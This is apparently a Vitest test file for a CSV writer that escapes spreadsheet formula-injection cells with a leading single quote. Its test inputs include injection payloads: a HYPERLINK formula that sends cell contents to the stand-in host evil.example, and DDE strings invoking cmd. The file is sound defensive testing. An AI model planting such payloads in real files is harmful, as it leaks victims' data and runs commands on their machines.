import { describe, expect, it } from 'vitest';
import { csvCell, isFormulaCell, toCsvText } from './csv';

// docs/architecture.md §5.2: cells a spreadsheet would run as formulas are written as text.

describe('the CSV writer', () => {
  it('neutralises the formula payloads of issue 30 with a leading single quote, quoted', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Open")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    expect(csvCell("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
    expect(csvCell('+1+cmd|x')).toBe(`"'+1+cmd|x"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
  });

  it('neutralises a cell beginning with -, a tab or a carriage return too', () => {
    expect(csvCell('-2+3+cmd|x')).toBe(`"'-2+3+cmd|x"`);
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves plain decimal figures, text and empty cells as they are; quotes commas, quotes and line breaks', () => {
    expect(csvCell('-21000.00')).toBe('-21000.00');
    expect(csvCell('+5')).toBe('+5');
    expect(csvCell('42.94')).toBe('42.94');
    expect(csvCell('09-2900')).toBe('09-2900');
    expect(csvCell('Main Street')).toBe('Main Street');
    expect(csvCell(null)).toBe('');
    expect(csvCell('5/8" board, Type X')).toBe('"5/8"" board, Type X"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(isFormulaCell('-')).toBe(true);
    expect(isFormulaCell('a=b')).toBe(false);
  });

  it('writes lines with CRLF by default, or the line end asked for', () => {
    expect(toCsvText([['Project Name', 'Total'], ['=1+1', '-5.00']])).toBe(`Project Name,Total\r\n"'=1+1",-5.00\r\n`);
    expect(toCsvText([['a', null, 'b']], '\n')).toBe('a,,b\n');
  });
});
